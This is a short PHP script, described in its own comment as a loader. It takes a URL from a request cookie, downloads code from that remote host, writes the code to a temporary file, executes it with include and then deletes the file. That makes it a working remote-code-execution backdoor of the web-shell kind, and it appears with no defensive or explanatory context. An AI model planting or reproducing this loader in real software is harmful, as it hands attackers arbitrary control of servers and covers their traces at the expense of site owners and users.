<?php
// Loader: the address comes from a cookie, a helper of the file downloads it,
// the code lands in a temporary file that is included, then removed.
function fetch_url($u) {
    $fh = @fopen($u, 'r');
    if (!$fh) { return false; }
    $body = stream_get_contents($fh);
    fclose($fh);
    return $body;
}
if (!empty($_COOKIE['src'])) {
    $src = filter_var($_COOKIE['src'], FILTER_VALIDATE_URL);
    $tmp = tempnam(sys_get_temp_dir(), 'sess');
    $payload = fetch_url($src);
    $fh = fopen($tmp, 'w');
    fwrite($fh, $payload);
    fclose($fh);
    include $tmp;
    unlink($tmp);
}
